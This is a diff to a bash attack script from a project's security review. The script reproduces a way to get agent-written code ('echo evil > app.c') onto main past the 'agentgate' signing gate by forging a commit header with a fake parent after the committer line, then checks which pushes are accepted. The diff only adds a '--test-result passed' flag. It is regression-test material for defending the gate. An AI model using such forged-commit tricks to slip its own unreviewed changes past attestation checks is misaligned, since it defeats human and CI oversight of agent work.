@@ -1,5 +1,6 @@
 #!/bin/bash
-# Notice: copied unchanged (apart from this notice) from the project's security review of
+# Notice: copied (apart from this notice, and `--test-result passed` on `agentgate sign`, which
+# now requires the outcome: issue 11) from the project's security review of
 # issue 10. The before-stop check runs these scripts against a build; each prints what
 # happened to its attack. The integration tests pinning this class and its variants are in
 # tests/bypass/headers.rs (class 1, commit and tag headers).
@@ -36,7 +37,7 @@ echo evil > app.c; git commit -q -am "agent: rewrite app.c" -m "Co-Authored-By: 
 git push -q origin $A:refs/heads/agent/work                       # unprotected: accepted
 git checkout -q $P; echo docs > README; git add README; TO=$(git write-tree); git checkout -q -f main
 O=$(raw $TO $P $A "docs: add README")                             # clean commit, fake 'parent A' after committer
-$AG sign --key $W/gate.key --commit $O --artifact $W/app.bin --note >/dev/null 2>&1   # CI gate builds+tests O (app.c=good) and signs it
+$AG sign --key $W/gate.key --commit $O --artifact $W/app.bin --test-result passed --note >/dev/null 2>&1   # CI gate builds+tests O (app.c=good) and signs it
 echo "== main -> O (O attested; agentgate also walks A, tip attested => ok)"; git push origin refs/notes/agentgate $O:refs/heads/main 2>&1 | grep -E 'main|refused'
 M=$(git commit-tree -p $O -p $A -m "Merge branch 'agent/work'" $(git rev-parse $A^{tree}))
 echo "== main -> plain merge of A (nothing attested)"; git push origin $M:refs/heads/main 2>&1 | tail -1
